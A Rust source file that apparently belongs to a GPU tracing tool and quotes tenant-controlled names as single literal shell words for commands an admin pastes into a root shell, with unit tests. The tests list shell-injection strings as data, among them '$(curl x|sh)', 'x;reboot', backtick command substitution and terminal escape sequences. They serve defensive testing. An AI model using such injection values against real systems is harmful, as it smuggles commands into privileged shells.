//! One observed string as one literal POSIX shell word, for the commands
//! gpu-trace suggests: an admin pastes them into a root shell, and a cgroup
//! or path name is whatever the tenant chose.

use std::borrow::Cow;

/// `text` as it may be pasted into `sh`: unchanged when every character is
/// in a strict safe set (and it does not start with '-', which a command
/// would take for an option), else in single quotes, each `'` written as
/// `'\''`. Either way the shell sees exactly one word equal to `text`.
pub fn shell_word(text: &str) -> Cow<'_, str> {
    if is_plain(text) {
        return Cow::Borrowed(text);
    }
    let mut quoted = String::with_capacity(text.len() + 2);
    quoted.push('\'');
    for c in text.chars() {
        if c == '\'' {
            quoted.push_str("'\\''");
        } else {
            quoted.push(c);
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

/// `text` as a word of a command shown between backticks: `shell_word`,
/// or `placeholder` when no quoting can show it safely: a backtick would
/// end the command on the page, a control character would be escaped on
/// the terminal and no longer be the name, and a backslash or `!` means
/// something inside single quotes to fish or tcsh, where admins paste too.
pub fn command_word<'a>(text: &'a str, placeholder: &'a str) -> Cow<'a, str> {
    if text.contains(['`', '\\', '!']) || text.chars().any(crate::text::terminal::needs_escape) {
        Cow::Borrowed(placeholder)
    } else {
        shell_word(text)
    }
}

/// A name mentioned in the prose of a fix, where backticks mark the
/// commands to paste: a backtick in it is written `\u{60}`, so the name
/// cannot end or start a command on the page.
pub fn prose(text: &str) -> Cow<'_, str> {
    if text.contains('`') {
        Cow::Owned(text.replace('`', "\\u{60}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `text` where it is plain (see `shell_word`), else `placeholder`: for
/// config lines, which have no quoting of their own.
pub fn plain_or<'a>(text: &'a str, placeholder: &'a str) -> &'a str {
    if is_plain(text) {
        text
    } else {
        placeholder
    }
}

/// Letters, digits and `._:@/-+=,%`: nothing any POSIX shell expands,
/// splits or globs.
fn is_plain(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._:@/-+=,%".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What `sh` would make of `line`, word by word.
    fn words(line: &str) -> Vec<String> {
        shlex::split(line).expect("a complete shell line")
    }

    #[test]
    fn unshowable_names_become_the_placeholder() {
        for unshowable in ["a`id`b", "a\u{1b}]0;x", "a\u{202e}b", "a\\';id;#", "a!!"] {
            assert_eq!(
                command_word(unshowable, "CONTAINER"),
                "CONTAINER",
                "{unshowable:?}"
            );
        }
        assert_eq!(command_word("a b", "CONTAINER"), "'a b'");
        assert_eq!(plain_or("a b", "NODE_PATH"), "NODE_PATH");
        assert_eq!(plain_or("/dev/nvidia0", "NODE_PATH"), "/dev/nvidia0");
    }

    #[test]
    fn plain_names_stay_as_they_are() {
        for name in ["200", "box", "/dev/nvidia-uvm", "ollama.service", "a_b:c@d"] {
            assert_eq!(shell_word(name), name);
        }
    }

    #[test]
    fn hostile_names_become_one_literal_word() {
        let hostile = [
            "$(touch${IFS}pwned)",
            "`id`",
            "a b",
            "x;reboot",
            "it's",
            "'",
            "''\\'",
            "a\nb",
            "*",
            "~root",
            "-rf",
            "",
            "$(curl x|sh)/nvidia0",
            "\u{1b}]0;title\u{7}",
            "a\u{202e}b",
            "!!",
            "#comment",
        ];
        for text in hostile {
            let word = shell_word(text);
            assert_ne!(word, text, "{text:?} must be quoted");
            let line = format!("lxc-stop -n {word} && echo done");
            assert_eq!(
                words(&line),
                ["lxc-stop", "-n", text, "&&", "echo", "done"],
                "{line}"
            );
        }
    }
}
